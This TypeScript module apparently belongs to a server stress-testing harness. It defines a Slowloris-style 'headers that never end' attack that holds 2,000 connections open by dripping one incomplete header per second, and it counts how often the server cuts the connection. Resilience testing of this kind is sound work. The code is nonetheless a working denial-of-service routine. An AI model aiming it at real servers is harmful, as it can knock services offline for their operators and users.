import type { Attack, AttackContext } from '../attack'
import { closed, openSocket } from '../httpClient'

const slowConnections = 2_000
const headerEveryMs = 1_000

const sendSlowly = async ({ target, turn, tally }: AttackContext) => {
  for (;;) {
    await turn()
    const socket = openSocket(target)
    socket.resume()
    socket.write(`GET / HTTP/1.1\r\nHost: 127.0.0.1:${target.port}\r\n`)
    const drip = setInterval(() => socket.write('X-More: a\r\n'), headerEveryMs)
    await closed(socket)
    clearInterval(drip)
    tally('ended by the server')
  }
}

/** Headers that never end. */
export const slowHeaders: Attack = {
  title: 'headers that never end on 2,000 connections',
  rate: { perSecond: 500, atOnce: 500 },
  prepare: (context) => () => {
    for (let lane = 0; lane < slowConnections; lane++) void sendSlowly(context)
  },
}
